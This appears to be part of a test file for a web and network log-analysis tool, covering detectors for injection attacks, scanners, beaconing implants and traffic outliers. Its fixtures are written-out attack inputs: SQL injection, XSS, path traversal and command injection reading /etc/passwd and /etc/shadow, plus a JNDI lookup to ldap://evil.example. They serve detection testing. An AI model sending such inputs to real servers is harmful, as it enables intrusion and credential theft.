    expect(by.get('192.0.2.40')!.severity).toBe('critical');
    expect(by.get('192.0.2.40')!.title).toMatch(/SQL injection \(40 requests\), 10 made the database wait$/);
    expect(by.get('192.0.2.40')!.numbers.waitedAsAsked).toBe(10);
    expect(by.get('192.0.2.40')!.explanation).toMatch(/30 others like them were answered at once: the injected SQL ran/);
    expect(by.get('192.0.2.41')!.severity).not.toBe('critical');
    expect(by.get('192.0.2.41')!.explanation).toMatch(/a slow server cannot be ruled out/);
    expect(by.get('192.0.2.42')!.severity).toBe('critical');
    expect(by.get('192.0.2.43')!.severity).not.toBe('critical');
    expect(by.get('192.0.2.44')!.severity).toBe('critical');
    expect(by.get('192.0.2.44')!.title).toMatch(/command injection \(6 requests\), 2 made the server wait$/);
  });

  it('calls a path traversal to a system file the server answered 2xx high (the file may have been handed over); one refused, or a relative link answered, stays medium', async () => {
    const ev: Ev[] = [
      { ts: T0, src_ip: '192.0.2.50', method: 'GET', path: '/download', query: 'file=../../../../etc/passwd', status: 200, bytes: 1843 },
      { ts: T0 + 1000, src_ip: '192.0.2.51', method: 'GET', path: '/download', query: 'file=../../../../etc/passwd', status: 404, bytes: 120 },
      { ts: T0 + 2000, src_ip: '192.0.2.52', method: 'GET', path: '/login', query: 'return=../../account/orders', status: 200, bytes: 5120 },
    ];
    const f = of(await run([...webPopulation(20), ...ev]), 'webAttacks');
    const rows = f.map((x) => [x.entity, x.severity, x.numbers.traversalAnswered2xx]);
    expect(rows.filter((r) => r[0] !== '192.0.2.52')).toEqual([
      ['192.0.2.50', 'high', 1],
      ['192.0.2.51', 'medium', undefined],
    ]);
    expect(f.find((x) => x.entity === '192.0.2.52')?.severity ?? 'none').not.toBe('high');
    expect(f[0]!.explanation).toMatch(/may have handed over the file named/);
  });

  it('finds double-encoded SQLi, XSS, traversal and command injection, one finding per source, fragment as text', async () => {
    const attack: Ev[] = [
      { ts: T0, src_ip: '192.0.2.7', method: 'GET', path: '/item', query: 'id=1%2527%2520OR%25201%253D1--', status: 200 },
      { ts: T0 + 1000, src_ip: '192.0.2.7', method: 'GET', path: '/search', query: 'q=%3CScRiPt%3Ealert(1)%3C/script%3E', status: 200 },
      { ts: T0 + 2000, src_ip: '192.0.2.7', method: 'GET', path: '/download', query: 'f=..%2F..%2F..%2Fetc%2Fpasswd', status: 403 },
      { ts: T0 + 3000, src_ip: '192.0.2.8', method: 'GET', path: '/ping', query: 'host=127.0.0.1;cat%20/etc/shadow', status: 500 },
      { ts: T0 + 4000, src_ip: '192.0.2.9', method: 'GET', path: '/', user_agent: '${jndi:ldap://evil.example/a}', status: 200 },
    ];
    const f = of(await run([...webPopulation(20), ...attack]), 'webAttacks');
    const by = Object.fromEntries(f.map((x) => [x.entity, x]));
    expect(Object.keys(by).sort()).toEqual(['192.0.2.7', '192.0.2.8', '192.0.2.9']);
    expect(String(by['192.0.2.7']!.numbers.kinds).split(',').sort()).toEqual(['sqli', 'traversal', 'xss']);
    expect(by['192.0.2.7']!.severity).toBe('high');
    expect(by['192.0.2.7']!.evidence.count).toBe(3);
    expect(by['192.0.2.7']!.explanation).toMatch(/or 1=1/);
    expect(by['192.0.2.8']!.numbers.kinds).toBe('cmdi');
    expect(by['192.0.2.9']!.numbers.kinds).toBe('jndi');
  });

  it('ignores ordinary searches and percent-encoded non-Latin paths', async () => {
    const normal: Ev[] = [
      { ts: T0, src_ip: '192.0.2.20', method: 'GET', path: '/product/31893/62100/%D8%B3%D8%B4%D9%88%D8%A7%D8%B1-PR257AT', status: 200 },
      { ts: T0, src_ip: '192.0.2.21', method: 'GET', path: '/search', query: "q=o'reilly+books&sort=price", status: 200 },
      { ts: T0, src_ip: '192.0.2.22', method: 'GET', path: '/filter/27|13%20%D9%85%DA%AF,p53', status: 200 },
      { ts: T0, src_ip: '192.0.2.23', method: 'GET', path: '/blog/select-the-best-tool-from-our-list', query: 'where=home', status: 200 },
    ];
    expect(of(await run([...webPopulation(20), ...normal]), 'webAttacks')).toEqual([]);
  });
});

describe('scanners', () => {
  it('flags a known tool (high) and a 404 sweep (medium), not a verified Googlebot', async () => {
    const sqlmap: Ev[] = Array.from({ length: 5 }, (_, i) => ({ ts: T0 + i, src_ip: '192.0.2.50', method: 'GET', path: '/x', status: 200, user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' }));
    const sweep: Ev[] = Array.from({ length: 80 }, (_, i) => ({ ts: T0 + i * 100, src_ip: '192.0.2.51', method: 'GET', path: `/backup${i}.zip`, status: 404 }));
    const google: Ev[] = Array.from({ length: 80 }, (_, i) => ({ ts: T0 + i * 30_000, src_ip: '66.249.73.135', method: 'GET', path: i === 0 ? '/robots.txt' : `/old/page${i}`, status: 404, user_agent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' }));
    const f = of(await run([...webPopulation(20), ...sqlmap, ...sweep, ...google]), 'scanners');
    const by = Object.fromEntries(f.map((x) => [x.entity, x]));
    expect(by['192.0.2.50']!.severity).toBe('high');
    expect(by['192.0.2.50']!.evidence.count).toBe(5);
    expect(by['192.0.2.51']!.severity).toBe('medium');
    expect(by['66.249.73.135']!.severity).toBe('info');
    expect(by['66.249.73.135']!.explanation).toMatch(/published crawler ranges.*reverse DNS not checked/);
  });

  it('reports a verified crawler that used many addresses once', async () => {
    const ua = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
    const bot: Ev[] = [];
    for (let a = 0; a < 4; a++) for (let i = 0; i < 60; i++) bot.push({ ts: T0 + a * 1000 + i * 30_000, src_ip: `66.249.73.${130 + a}`, method: 'GET', path: i === 0 ? '/robots.txt' : `/old/${a}/page${i}`, status: i === 0 ? 200 : 404, user_agent: ua });
    const f = of(await run([...webPopulation(20), ...bot]), 'scanners');
    expect(f.map((x) => [x.entity, x.severity])).toEqual([['Googlebot', 'info']]);
    expect(f[0]!.numbers).toMatchObject({ addresses: 4, missingPaths: 236 });
    expect(f[0]!.evidence.count).toBe(236);
  });

  it("reports a NAT gateway's many users' broken links low, not as a sweep", async () => {
    const nat: Ev[] = Array.from({ length: 3000 }, (_, i) => ({ ts: T0 + i * 2000, src_ip: '203.0.113.60', method: 'GET', path: i % 50 === 0 ? `/old/link${i}` : `/page${i % 40}`, status: i % 50 === 0 ? 404 : 200 }));
    const [f] = of(await run([...webPopulation(20), ...nat]), 'scanners');
    expect([f!.entity, f!.severity]).toEqual(['203.0.113.60', 'low']);
    expect(f!.explanation).toMatch(/many users behind one address/);
  });

  it('names recon tools by their user agent (feroxbuster, WhatWeb); a research scanner\'s few requests are no finding', async () => {
    const tool = (ip: string, ua: string): Ev[] => Array.from({ length: 5 }, (_, i) => ({ ts: T0 + i, src_ip: ip, method: 'GET', path: `/p${i}`, status: 404, user_agent: ua }));
    const f = of(await run([...webPopulation(20), ...tool('192.0.2.60', 'feroxbuster/2.10.1'), ...tool('192.0.2.61', 'WhatWeb/0.5.5'), ...tool('192.0.2.62', 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)')]), 'scanners');
    const by = Object.fromEntries(f.map((x) => [x.entity, x]));
    expect(by['192.0.2.60']!.severity).toBe('high');
    expect(by['192.0.2.60']!.title).toMatch(/feroxbuster/);
    expect(by['192.0.2.61']!.title).toMatch(/WhatWeb/);
    expect(by['192.0.2.62']).toBeUndefined();
  });

  it('calls a Googlebot user agent from a non-Google address an impersonator', async () => {
    const fake: Ev[] = Array.from({ length: 10 }, (_, i) => ({ ts: T0 + i, src_ip: '192.0.2.77', method: 'POST', path: '/login', status: 200, user_agent: 'Googlebot/2.1 (+http://www.google.com/bot.html)' }));
    const f = of(await run([...webPopulation(20), ...fake]), 'scanners');
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ entity: '192.0.2.77', severity: 'medium' });
    expect(f[0]!.explanation).toMatch(/is NOT in Googlebot/);
  });
});

describe('beaconing', () => {
  it('flags a host calling an external address every 5 minutes with low jitter for 4 hours', async () => {
    const beacon: Ev[] = Array.from({ length: 48 }, (_, i) => ({ ts: T0 + i * 300_000 + ((i * 37) % 7) * 1000, src_ip: '10.0.2.33', src_port: 50000 + i, dst_ip: '198.18.5.5', dst_port: 8443, proto: 'TCP', bytes: 800 }));
    const f = of(await run([...flowPopulation(), ...beacon]), 'beaconing');
    expect(f.map((x) => x.entity)).toEqual(['10.0.2.33 -> 198.18.5.5:8443']);
    expect(f[0]!.severity === 'medium' || f[0]!.severity === 'high').toBe(true);
    expect(f[0]!.evidence.count).toBe(48);
  });

  it('reports an internal monitor polling many hosts on one port once, an implant on its own', async () => {
    const mon: Ev[] = [];
    for (let h = 0; h < 12; h++) for (let i = 0; i < 40; i++) mon.push({ ts: T0 + i * 300_000 + h * 7, src_ip: '10.0.5.50', src_port: 40000 + h * 100 + i, dst_ip: `10.0.1.${h + 10}`, dst_port: 443, proto: 'TCP', bytes: 900 });
    const implant: Ev[] = Array.from({ length: 48 }, (_, i) => ({ ts: T0 + i * 300_000 + ((i * 37) % 7) * 3000, src_ip: '10.0.2.33', src_port: 50000 + i, dst_ip: '198.18.5.5', dst_port: 8443, proto: 'TCP', bytes: 800 }));
    const f = of(await run([...flowPopulation(), ...mon, ...implant]), 'beaconing');
    const mine = f.filter((x) => x.entity.startsWith('10.0.5.50'));
    expect(mine.map((x) => [x.entity, x.severity])).toEqual([['10.0.5.50 -> 12 hosts:443', 'low']]);
    expect(mine[0]!.numbers).toMatchObject({ hosts: 12, contacts: 480 });
    expect(mine[0]!.evidence.count).toBe(480);
    expect(f.map((x) => x.entity)).toContain('10.0.2.33 -> 198.18.5.5:8443');
  });

  it('keeps the most severe beacons when the cap is reached (NTP clients do not crowd out an implant)', async () => {
    const ntp: Ev[] = [];
    // each client asks its own time server: many clients of one server would be one grouped finding (beaconing.groupHosts)
    for (let h = 0; h < 30; h++) for (let i = 0; i < 40; i++) ntp.push({ ts: T0 + i * 300_000 + h, src_ip: `10.0.5.${h + 1}`, src_port: 40000 + i, dst_ip: `10.0.0.${100 + h}`, dst_port: 123, proto: 'UDP', bytes: 76 });
    const implant: Ev[] = Array.from({ length: 48 }, (_, i) => ({ ts: T0 + i * 300_000 + ((i * 37) % 7) * 3000, src_ip: '10.0.2.33', src_port: 50000 + i, dst_ip: '198.18.5.5', dst_port: 8443, proto: 'TCP', bytes: 800 }));
    const f = of(await run([...flowPopulation(), ...ntp, ...implant], { 'beaconing.maxFindings': 10 }), 'beaconing');
    expect(f).toHaveLength(10);
    expect(f[0]!.entity).toBe('10.0.2.33 -> 198.18.5.5:8443');
    expect(f.slice(1).every((x) => x.severity === 'info')).toBe(true);
  });

  it('reports an uptime monitor and an internal health-check poller as info, an unknown poller of a page as low', async () => {
    const poll = (ip: string, path: string, ua: string, every: number): Ev[] =>
      Array.from({ length: 60 }, (_, i) => ({ ts: T0 + i * every, src_ip: ip, method: 'GET', path, status: 200, bytes: 300, user_agent: ua }));
    const f = of(
      await run([
        ...webPopulation(20),
        ...poll('69.162.124.227', '/', 'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)', 300_000),
        ...poll('10.0.5.1', '/healthz', 'Go-http-client/1.1', 150_000),
        ...poll('203.0.113.70', '/api/tasks', 'Go-http-client/1.1', 300_000),
      ]),
      'beaconing',
    );
    const sev = Object.fromEntries(f.map((x) => [x.entity, x.severity]));
    expect(sev).toEqual({ '69.162.124.227 -> /': 'info', '10.0.5.1 -> /healthz': 'info', '203.0.113.70 -> /api/tasks': 'low' });
    expect(f.find((x) => x.entity === '69.162.124.227 -> /')!.explanation).toMatch(/uptime or metrics poller/);
  });

  it('finds a 60 s beacon with 25 % jitter (C2 frameworks randomise their sleep)', async () => {
    let x = 7;
    const rnd = (): number => ((x = (x * 1103515245 + 12345) % 2147483648) / 2147483648);
    let t = T0;
    const beacon: Ev[] = Array.from({ length: 400 }, (_, i) => {
      t += 60_000 * (0.75 + 0.5 * rnd());
      return { ts: Math.round(t), src_ip: '10.0.2.35', src_port: 50000 + i, dst_ip: '198.18.5.7', dst_port: 443, proto: 'TCP', bytes: 900 };
    });
    const f = of(await run([...flowPopulation(), ...beacon]), 'beaconing');
    expect(f.map((b) => b.entity)).toContain('10.0.2.35 -> 198.18.5.7:443');
  });

  it('does not flag irregular human traffic to the same host', async () => {
    let t = T0;
    const human: Ev[] = Array.from({ length: 48 }, (_, i) => {
      t += (30 + ((i * 7919) % 900)) * 1000;
      return { ts: t, src_ip: '10.0.2.34', src_port: 50000 + i, dst_ip: '198.18.5.6', dst_port: 443, proto: 'TCP', bytes: 800 };
    });
    expect(of(await run([...flowPopulation(), ...human]), 'beaconing')).toEqual([]);
  });
});

describe('outliers', () => {
  it('lists an extreme source as a low/info lead, never higher', async () => {
    const heavy: Ev[] = Array.from({ length: 3000 }, (_, i) => ({ ts: T0 + i * 1000, src_ip: '198.51.100.250', method: 'GET', path: `/p${i % 900}`, status: i % 2 ? 404 : 200 }));
    const f = of(await run([...webPopulation(60), ...heavy]), 'outliers');
    expect(f.map((x) => x.entity)).toContain('198.51.100.250');
    for (const x of f) expect(['info', 'low']).toContain(x.severity);
  });

  it("does not count a server's replies to its clients' ephemeral ports as ports it contacted", async () => {
    const replies: Ev[] = Array.from({ length: 400 }, (_, i) => ({ ts: T0 + i * 1000, src_ip: '10.0.1.250', src_port: 443, dst_ip: `10.0.3.${i % 200}`, dst_port: 30000 + i * 7, proto: 'TCP', flags: '.AP.F.', packets: 8, bytes: 4000 }));
    const f = of(await run([...flowPopulation(), ...replies]), 'outliers').filter((x) => x.entity === '10.0.1.250');
    // it stands out on bytes and destinations, not on 400 "destination ports" that are its clients'
    expect(f.length).toBeGreaterThan(0);
    expect(f.map((x) => x.explanation).join(' ')).not.toMatch(/distinct destination ports/);
  });

  it('says nothing about a uniform population', async () => {
    expect(of(await run(webPopulation(60)), 'outliers')).toEqual([]);
  });
});
